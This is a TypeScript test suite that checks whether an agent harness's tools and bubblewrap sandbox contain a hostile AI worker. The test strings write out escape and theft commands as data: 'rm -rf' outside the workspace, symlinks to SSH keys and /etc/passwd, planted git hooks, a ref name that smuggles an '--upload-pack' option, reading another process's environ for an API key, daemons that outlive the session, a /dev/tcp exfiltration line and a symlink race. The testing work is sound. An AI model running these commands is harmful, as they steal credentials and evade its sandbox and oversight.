/** Tests attacks of a hostile worker through its tools and its shell, with and without a sandbox. */
import assert from "node:assert/strict";
import { type ChildProcess, spawn } from "node:child_process";
import { once } from "node:events";
import fs from "node:fs";
import { createServer } from "node:net";
import path from "node:path";
import { describe, it } from "node:test";
import { workerTools } from "../../src/adapters/agents/tools/tools.ts";
import { GitCheckout } from "../../src/adapters/checkouts.ts";
import { hasFailed } from "../../src/core/result.ts";
import { differences } from "../../src/ports/checkout.ts";
import { newFolder } from "../support/folders.ts";
import { napOf, napping } from "../support/naps.ts";
import {
  sandboxFor,
  use,
  type WorkspacePlace,
  whyNoSandbox,
  workspacePlace,
} from "../support/tool-places.ts";

const KEY = "sk-ant-api03-0123456789abcdefghijklmnopqrstuvwxyz";
const NEVER = new AbortController().signal;

/** A home folder with a key in it, and another key in one of Skein's own variables. */
async function victim(level: "none" | "bubblewrap", network = true) {
  const home = newFolder();
  fs.mkdirSync(path.join(home, ".ssh"));
  fs.writeFileSync(path.join(home, ".ssh", "id_ed25519"), "the user's private key\n");
  const environment = { HOME: home, ANTHROPIC_API_KEY: KEY };
  const sandbox = (at: { state: string; repository: string }) =>
    sandboxFor(at, { environment: { ...process.env, ...environment }, network });
  const at = await workspacePlace({ environment, ...(level === "bubblewrap" && { sandbox }) });
  const tools = workerTools(at.place);
  return {
    at,
    home,
    tools,
    bash: (command: string) => use(tools, "bash", { command }),
    [Symbol.asyncDispose]: () => at[Symbol.asyncDispose](),
  };
}

async function lookAt({ repository }: WorkspacePlace) {
  const look = await new GitCheckout({ folder: repository.folder, own: "skein/" }).look(NEVER);
  assert.ok(!hasFailed(look));
  return look;
}

const keep = ({ workspaces, workspace }: WorkspacePlace) =>
  workspaces.keep(workspace, { ref: "refs/heads/skein/r/task/1", message: "made" }, NEVER);

/**
 * What an attack can do without a sandbox differs by system, and is tested on Linux only. With a sandbox only where
 * there is one.
 */
const LEVELS = [
  ...(process.platform === "linux" ? (["none"] as const) : []),
  ...((await whyNoSandbox()) === false ? (["bubblewrap"] as const) : []),
];

for (const level of LEVELS) {
  const isOpen = level === "none";

  describe(`a hostile worker, sandbox ${level}`, () => {
    it("names absolute paths: the tools refuse; the shell writes there only without a sandbox", async () => {
      await using v = await victim(level);
      const outside = path.join(newFolder(), "file.txt");
      fs.writeFileSync(outside, "the user's\n");
      for (const [tool, input] of [
        ["read", { path: outside }],
        ["write", { path: outside, content: "mine" }],
        ["edit", { path: outside, old_text: "user", new_text: "worker" }],
        ["ls", { path: path.dirname(outside) }],
        ["grep", { pattern: "user", path: path.dirname(outside) }],
        ["find", { glob: "*", path: path.dirname(outside) }],
      ] as const) {
        assert.match(await use(v.tools, tool, input), /^error: .* is outside of the workspace$/, tool);
      }
      await v.bash(`echo mine > '${outside}'`);
      assert.equal(fs.readFileSync(outside, "utf8"), isOpen ? "mine\n" : "the user's\n");
    });

    it("goes up with cd ..: there is something to spoil only without a sandbox, and the run survives it", async () => {
      await using v = await victim(level);
      await v.bash("echo work > work.txt; cd ..; rm -rf git start.txt holder.json");
      assert.equal(fs.existsSync(path.join(v.at.place.folder, "..", "git")), !isOpen);
      const kept = await keep(v.at);
      if (isOpen) {
        assert.ok(hasFailed(kept));
        assert.match(kept.failure.message, /is no folder any more: nothing in it can be kept/);
      } else {
        assert.ok(!hasFailed(kept) && kept.commit);
      }
    });

    it("makes links to files and folders outside: the tools refuse them, and what is kept is the link", async () => {
      await using v = await victim(level);
      await v.bash(`ln -s '${v.home}/.ssh/id_ed25519' key; ln -s '${v.home}' home; ln -s /etc/passwd passwd`);
      for (const asked of ["key", "home/.ssh/id_ed25519", "passwd"]) {
        assert.match(
          await use(v.tools, "read", { path: asked }),
          /^error: .* is a link out of the workspace/,
        );
        const written = await use(v.tools, "write", { path: asked, content: "mine" });
        assert.match(written, /^error: .* is a link out of the workspace/);
      }
      const kept = await keep(v.at);
      assert.ok(!hasFailed(kept) && kept.commit);
      assert.match(await v.at.repository.git("ls-tree", kept.commit, "key"), /^120000 /);
    });

    it("turns to the user's repository with git -C: it moves a branch only without a sandbox, and that is seen", async () => {
      await using v = await victim(level);
      const before = await lookAt(v.at);
      const heard = await v.bash(`git -C '${v.at.repository.folder}' branch evil`);
      if (!isOpen) assert.match(heard, /not a git repository|cannot change to/);
      assert.deepEqual(differences(before, await lookAt(v.at)), isOpen ? ["refs/heads/evil"] : []);
    });

    it("plants settings and hooks in its own git folder: Skein runs none of them", async () => {
      await using v = await victim(level);
      const made = path.join(v.at.place.folder, "..", "tmp", "made");
      await v.bash(
        [
          `printf '#!/bin/sh\\ntouch "${made}"\\n' > hook; chmod +x hook`,
          "mkdir -p .git/hooks; for h in pre-commit post-commit post-checkout reference-transaction; do cp hook .git/hooks/$h; done",
          'git config core.fsmonitor "$PWD/hook"; git config core.hooksPath "$PWD/.git/hooks"',
          'git config filter.evil.clean "$PWD/hook"; echo "* filter=evil" > .gitattributes; echo work > work.txt',
        ].join("\n"),
      );
      const kept = await keep(v.at);
      assert.ok(!hasFailed(kept) && kept.commit);
      assert.equal(await v.at.repository.git("show", `${kept.commit}:work.txt`), "work");
      assert.equal(fs.existsSync(made), false);
    });

    it("plants a hook in the user's repository: only without a sandbox, and nobody sees that", async () => {
      await using v = await victim(level);
      const { repository, place } = v.at;
      const before = await lookAt(v.at);
      const git = path.join(repository.folder, ".git");
      for (const asked of [
        `${git}/hooks/pre-commit`,
        `${git}/config`,
        ".git/hooks/pre-commit",
        ".git/config",
      ]) {
        assert.match(
          await use(v.tools, "write", { path: asked, content: "" }),
          /^error: .* (?:outside|to git)/,
        );
      }
      await v.bash(
        `mkdir -p '${git}/hooks'; echo evil > '${git}/hooks/pre-commit'; echo '[evil]' >> '${git}/config'`,
      );
      assert.equal(fs.existsSync(`${git}/hooks/pre-commit`), isOpen);
      assert.equal(fs.readFileSync(`${git}/config`, "utf8").includes("[evil]"), isOpen);
      assert.deepEqual(differences(before, await lookAt(v.at)), []);
      assert.ok(fs.existsSync(place.folder));
    });

    it("reads the variables of the process that started it: only without a sandbox", async () => {
      await using v = await victim(level);
      const skein = spawn("sleep", ["60"], { env: { ANTHROPIC_API_KEY: KEY }, stdio: "ignore" });
      try {
        await once(skein, "spawn");
        const heard = await v.bash(`tr '\\0' '\\n' < /proc/${skein.pid}/environ`);
        assert.equal(heard.includes(KEY), isOpen && process.platform === "linux");
      } finally {
        await ended(skein);
      }
    });

    it("leaves processes behind: they end with the command", async () => {
      await using v = await victim(level);
      const nap = napOf(7201);
      await v.bash(`(setsid ${nap} & nohup ${nap} & (setsid sh -c '${nap} & ${nap} &' &)) >/dev/null 2>&1`);
      assert.deepEqual(napping(nap), []);
    });

    it("leaves one that gave up its session, its parent and its variables: it lives on only without a sandbox", async () => {
      await using v = await victim(level);
      const nap = napOf(7202);
      const runs = '[ "$(cat /proc/$(cat pid)/comm)" = sleep ]';
      const daemon = `env -i setsid sh -c 'echo $$ > pid; exec ${nap}'`;
      await v.bash(`(${daemon} >/dev/null 2>&1 &); until ${runs}; do :; done`);
      const left = napping(nap);
      for (const pid of left) process.kill(Number(pid), "SIGKILL");
      assert.equal(left.length, isOpen ? 1 : 0);
    });

    it("calls its branch like an option: its work is kept under the name that was given, and nothing is run", async () => {
      await using v = await victim(level);
      const evil = "refs/heads/--upload-pack=touch made";
      await v.bash(
        `echo work > work.txt; git add .; git commit -qm evil; id=$(git rev-parse HEAD)
         mkdir -p '.git/refs/heads'; echo $id > '.git/${evil}'; echo 'ref: ${evil}' > .git/HEAD`,
      );
      const kept = await keep(v.at);
      assert.ok(!hasFailed(kept) && kept.commit);
      assert.equal(await v.at.repository.git("show", `${kept.commit}:work.txt`), "work");
      const refs = await v.at.repository.git("for-each-ref", "--format=%(refname)");
      assert.deepEqual(refs.split("\n"), ["refs/heads/main", "refs/heads/skein/r/task/1"]);
    });

    it("obeys a file that asks for secrets: variables hold none, the key file is there only without a sandbox", async () => {
      await using v = await victim(level);
      const variables = await v.bash("env; set; export -p");
      assert.doesNotMatch(variables, /sk-ant|API_KEY/);
      assert.equal((await v.bash("cat ~/.ssh/*")).includes("private key"), isOpen);
    });

    it("sends what it has to a server: possible in both, unless the sandbox has no network", async () => {
      const got: string[] = [];
      const server = createServer((socket) => socket.on("data", (data) => got.push(String(data))));
      server.listen(0, "127.0.0.1");
      await once(server, "listening");
      const address = server.address();
      const port = typeof address === "object" && address !== null ? address.port : 0;
      const send = (word: string) => `echo ${word} > /dev/tcp/127.0.0.1/${port}`;
      try {
        await using open = await victim(level);
        const arrived = once(server, "connection").then(([socket]) => once(socket, "close"));
        await open.bash(send("mine"));
        await arrived;
        if (!isOpen) {
          await using closed = await victim(level, false);
          assert.match(await closed.bash(send("secret")), /refused|unreachable/i);
        }
        assert.deepEqual(got, ["mine\n"]);
      } finally {
        server.close();
      }
    });
  });
}

/** Swaps in a process of its own: with a shell's mv the moment between is never met. */
const SWAPPER = `const { renameSync: move, rmSync, writeSync } = require("node:fs");
const put = (from) => { // A tool may have made the folder meanwhile.
  for (;;) try { return move(from, "d"); } catch { rmSync("d", { recursive: true, force: true }); }
};
writeSync(1, "begun");
for (const end = Date.now() + 60_000; Date.now() < end; ) { move("d", "r"); put("l"); move("d", "l"); put("r"); }`;

it("swaps a folder for a link again and again while the tools use it: nothing outside is read or made", async () => {
  await using v = await victim("none");
  const { folder } = v.at.place;
  const outside = newFolder();
  for (const [place, text] of [
    [path.join(outside, "e"), "a secret\n"],
    [path.join(folder, "d", "e"), "mine\n"],
  ] as const) {
    fs.mkdirSync(place, { recursive: true });
    fs.writeFileSync(path.join(place, "file.txt"), text);
  }
  fs.symlinkSync(outside, path.join(folder, "l"));
  const swapper = spawn(process.execPath, ["-e", SWAPPER], { cwd: folder });
  const heard = new Set<string>();
  try {
    await once(swapper.stdout, "data", { signal: AbortSignal.timeout(30_000) });
    for (let turn = 0; turn < 1_000; turn += 1) {
      heard.add(await use(v.tools, "read", { path: "d/e/file.txt" }));
      await use(v.tools, "write", { path: "d/e/new.txt", content: "mine" });
    }
  } finally {
    await ended(swapper);
  }
  assert.ok(
    [...heard].some((text) => text.startsWith("error: ")),
    "no swap was met: the test shows nothing",
  );
  const secrets = [...heard].filter((text) => text.includes("secret"));
  assert.deepEqual([secrets, fs.readdirSync(path.join(outside, "e"))], [[], ["file.txt"]]);
});

async function ended(child: ChildProcess): Promise<void> {
  if (child.exitCode !== null || child.signalCode !== null) return;
  const gone = once(child, "exit");
  child.kill("SIGKILL");
  await gone;
}
